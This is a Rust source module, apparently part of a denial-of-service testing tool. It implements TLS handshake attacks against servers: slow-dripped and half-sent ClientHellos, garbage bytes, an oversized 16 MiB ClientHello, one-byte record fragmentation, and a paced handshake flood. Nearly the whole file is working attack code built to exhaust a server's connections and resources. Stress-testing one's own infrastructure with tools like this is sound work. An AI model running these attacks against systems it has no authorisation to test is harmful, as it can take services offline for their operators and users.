//! Attacks below HTTP: a handshake that never comes, never ends, or comes again and again.

use crate::{
    connect,
    ending::{Ending, How, plain_alert},
    pace::Pace,
    run::Context,
    summary::Counts,
};
use rustls::ClientConnection;
use std::io;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
    time::{Instant, sleep_until},
};

/// Bytes of one TLS record, at most (RFC 8446, section 5.1).
const RECORD: usize = 16_384;

pub async fn attack(context: &Context, number: usize) -> Ending {
    let since = Instant::now();
    let stream = match connect::tcp(&context.attack, number, None).await {
        Ok(stream) => stream,
        Err(error) => return Ending::of(How::of(&Err::<(), _>(error)), since),
    };
    if context.attack.kind.name == "handshake-flood" {
        return Ending::of(shake(context, stream).await, since);
    }
    let (read, mut write) = stream.into_split();
    let script = async {
        let result = script(context, &mut write).await;
        match result {
            // It has said what it had to say: the other side is to end it.
            Ok(()) => std::future::pending().await,
            Err(error) => How::of(&Err::<(), _>(error)),
        }
    };
    let how = tokio::select! {
        biased;
        how = listen(context, read) => how,
        how = script => how,
        () = sleep_until(context.until) => How::Open,
    };
    Ending::of(how, since)
}

/// Reads to the end, and says what that was.
async fn listen(context: &Context, mut read: OwnedReadHalf) -> How {
    let mut buffer = vec![0; RECORD];
    let mut alert = None;
    loop {
        match read.read(&mut buffer).await {
            Ok(0) => return alert.unwrap_or(How::Fin),
            Ok(bytes) => {
                Counts::add(&context.counts.bytes_received, bytes);
                alert = alert.or_else(|| plain_alert(buffer.get(..bytes)?));
            }
            Err(error) => return alert.unwrap_or_else(|| How::of(&Err::<(), _>(error))),
        }
    }
}

/// What each kind sends.
async fn script(context: &Context, write: &mut OwnedWriteHalf) -> io::Result<()> {
    let attack = &context.attack;
    match attack.kind.name {
        "drip" => {
            let hello = client_hello(context)?;
            let mut pace = Pace::new(attack.rate, attack.units);
            let mut bytes = hello.into_iter();
            while let Some(due) = pace.due().await {
                let few: Vec<u8> = bytes
                    .by_ref()
                    .take(usize::try_from(due).unwrap_or(1))
                    .collect();
                if few.is_empty() {
                    break;
                }
                send(context, write, &few).await?;
            }
        }
        "half-hello" => {
            let hello = client_hello(context)?;
            send(
                context,
                write,
                hello.get(..hello.len() / 2).unwrap_or_default(),
            )
            .await?;
        }
        "half-handshake" => send(context, write, &client_hello(context)?).await?,
        "garbage" => {
            let noise: Vec<u8> = (0_u32..4096)
                .map(|n| n.wrapping_mul(2_654_435_761).to_be_bytes()[0])
                .collect();
            send(context, write, &noise).await?;
        }
        "huge-hello" => huge_hello(context, write).await?,
        // Silence.
        _ => {}
    }
    Ok(())
}

async fn send(context: &Context, write: &mut OwnedWriteHalf, bytes: &[u8]) -> io::Result<()> {
    write.write_all(bytes).await?;
    Counts::add(&context.counts.bytes_sent, bytes.len());
    Counts::add(&context.counts.units, 1);
    Ok(())
}

/// A `ClientHello` of 16 MiB that is never complete; or an ordinary one, in records of one byte.
async fn huge_hello(context: &Context, write: &mut OwnedWriteHalf) -> io::Result<()> {
    let attack = &context.attack;
    let mut pace = Pace::new(attack.rate, attack.units);
    if attack.variant() == "fragments" {
        let hello = client_hello(context)?;
        // The handshake message without the record's own header, its first byte again and again.
        let message = hello.get(5..).unwrap_or_default();
        let mut bytes = message.iter().copied().chain(std::iter::repeat(0));
        while let Some(due) = pace.due().await {
            let mut out = Vec::new();
            for byte in bytes.by_ref().take(usize::try_from(due).unwrap_or(1)) {
                out.extend_from_slice(&record(&[byte]));
            }
            send(context, write, &out).await?;
        }
        return Ok(());
    }
    let mut body = vec![1, 0xff, 0xff, 0xff, 3, 3];
    while let Some(due) = pace.due().await {
        for _ in 0..due {
            body.resize(RECORD, 0x41);
            send(context, write, &record(&body)).await?;
            body.clear();
        }
    }
    Ok(())
}

/// A record of handshake bytes.
fn record(body: &[u8]) -> Vec<u8> {
    let length = u16::try_from(body.len()).unwrap_or(u16::MAX);
    let mut record = vec![22, 3, 1];
    record.extend_from_slice(&length.to_be_bytes());
    record.extend_from_slice(body);
    record
}

/// The bytes of a `ClientHello`, as a well-behaved client would send them.
fn client_hello(context: &Context) -> io::Result<Vec<u8>> {
    let config = connect::settings(&[b"h2", b"http/1.1"])?;
    let name = connect::server_name(&context.attack)?;
    let mut client = ClientConnection::new(config, name).map_err(io::Error::other)?;
    let mut bytes = Vec::new();
    client.write_tls(&mut bytes)?;
    Ok(bytes)
}

/// One full handshake, and away. The rate is that of each place: waiting comes first.
async fn shake(context: &Context, stream: TcpStream) -> How {
    let result = connect::tls(&context.attack, stream, b"http/1.1").await;
    let how = match &result {
        Ok(_) => {
            Counts::add(&context.counts.units, 1);
            How::Done
        }
        Err(_) => How::of(&result.map(drop)),
    };
    if let Some(rate) = context.attack.rate.filter(|rate| *rate > 0.0) {
        tokio::time::sleep(std::time::Duration::from_secs_f64(1.0 / rate)).await;
    }
    how
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_say_their_length() {
        assert_eq!(record(&[1, 2]), [22, 3, 1, 0, 2, 1, 2]);
    }
}
